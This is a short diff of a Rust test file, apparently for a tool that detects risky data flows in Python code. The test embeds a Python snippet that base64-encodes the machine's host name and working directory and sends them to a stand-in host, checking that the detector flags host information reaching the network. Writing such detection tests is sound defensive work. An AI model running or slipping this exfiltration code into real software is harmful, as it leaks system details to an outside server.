@@ -250,7 +250,7 @@ fn a_timer_given_a_function_name_runs_the_function() {
 
 #[test]
 fn host_identity_reaches_a_request_through_encoding() {
-    let text = "import os, base64, requests\nmsg = os.uname()[1] + ',' + os.getcwd()\nb = base64.b64encode(msg.encode()).decode()\nrequests.get('https://c.example.invalid/?d=' + b)\n";
+    let text = "import os, base64, requests\nmsg = os.uname()[1] + ',' + os.getcwd()  # the host name carries it\nb = base64.b64encode(msg.encode()).decode()\nrequests.get('https://c.example.invalid/?d=' + b)\n";
     let found = py(text);
     assert!(
         found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
